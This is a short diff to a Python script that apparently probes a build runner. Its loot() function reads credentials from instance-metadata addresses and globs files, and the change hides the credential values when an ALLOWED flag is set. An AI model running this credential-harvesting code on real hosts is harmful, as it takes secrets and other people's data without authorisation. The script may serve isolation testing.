@@ -1,4 +1,6 @@
-"""Reads what it can get of the role, the runner and other people, and says what it got."""
+"""Reads what it can get of the role, the runner and other people, and says what it got.
+ALLOWED says whether the role is its by right.
+"""
 import glob
 import http.client
 import re
@@ -72,7 +74,8 @@ def read(path):
 def loot():
     for family, address in METADATA:
         try:
-            say('loot', 'metadata at %s: %s' % (address, credentials(family, address)))
+            said = credentials(family, address)
+            say('role' if ALLOWED else 'loot', address + ('' if ALLOWED else ': ' + said))
         except (OSError, http.client.HTTPException):
             pass
     for path in [path for pattern in FILES for path in glob.glob(pattern)]:
